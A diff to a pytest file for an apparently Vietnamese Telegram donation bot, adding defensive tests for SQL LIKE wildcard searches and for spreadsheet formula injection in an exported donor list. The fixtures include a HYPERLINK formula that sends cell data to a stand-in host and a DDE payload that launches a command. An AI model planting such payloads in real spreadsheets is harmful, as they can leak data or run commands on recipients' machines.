@@ -8,7 +8,7 @@ import io
 import zipfile
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 from sqlalchemy import select
 
 from bot.app import App
@@ -19,6 +19,7 @@ from tests import test_telegram
 from tests.support.clocks import NOW
 from tests.test_donors import COMPANY, FLOOD, add_flood_drive, record_in_chat
 from tests.test_drives import seed
+from tests.test_roles_in_chat import GRANT, LAN, make
 from tests.test_telegram import Harness, join, text_of
 
 tg = test_telegram.tg
@@ -169,3 +170,52 @@ async def test_someone_of_another_organisation_learns_nothing_of_a_code_not_even
     await vy.say("/menu")
     screen = await vy.say(f"/tracuu {ref}")
     assert "đã xác nhận" not in screen and f"{ref}: không tìm thấy" in screen
+
+
+async def test_a_percent_sign_or_an_underscore_typed_as_a_name_finds_nobody_not_everybody(
+    app: App, make_person
+) -> None:
+    """SQL LIKE's wildcards typed where a name is searched are letters like any other (held: this test passed
+    as written; kept so that a search written without escaping is caught)."""
+    ids = await seed(app)
+    await make(app, ids, "tam", "admin", None)
+    tam = make_person("tam")
+    await tam.say("/phanquyen")
+    await tam.choose(GRANT)
+    for typed in ("%", "_", "%n%", "l_n"):
+        screen = await tam.say(typed)
+        assert LAN not in screen and "Lê Văn Hùng" not in screen, typed
+    assert LAN in await tam.say("lan")
+
+
+# --- what we write to spreadsheets ----------------------------------------------------------------------
+
+FORMULAS = (
+    '=HYPERLINK("http://x.example/?q="&A1,"Bấm")',
+    "@SUM(A1:A9)",
+    "+1+1",
+    "-1+1",
+    '=cmd|" /C calc"!A0',
+)
+
+
+async def test_donor_names_typed_as_formulas_are_text_in_the_collectors_handover_list(
+    app: App, make_person
+) -> None:
+    """Held: each name reaches the handover list as the text typed, behind a quote, never a formula."""
+    ids = await seed(app)
+    await add_flood_drive(app, ids)
+    hung = make_person("hung")
+    await hung.say("/menu")
+    for number, name in enumerate(FORMULAS, start=1):
+        await record_in_chat(hung, name, public=False, drive=FLOOD, amount=f"{number}00k", note="-")
+    await hung.say("/daghithay")
+    await hung.choose("Bảng kê nộp tiền (Excel)")
+    [handed] = hung.channel.transport.documents("hung")
+    assert handed.document is not None
+    sheet = load_workbook(app.settings.media_dir / handed.document.path).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    givers = {cell.value for cell in cells if cell.column == 2}
+    assert {"'" + name for name in FORMULAS} <= givers
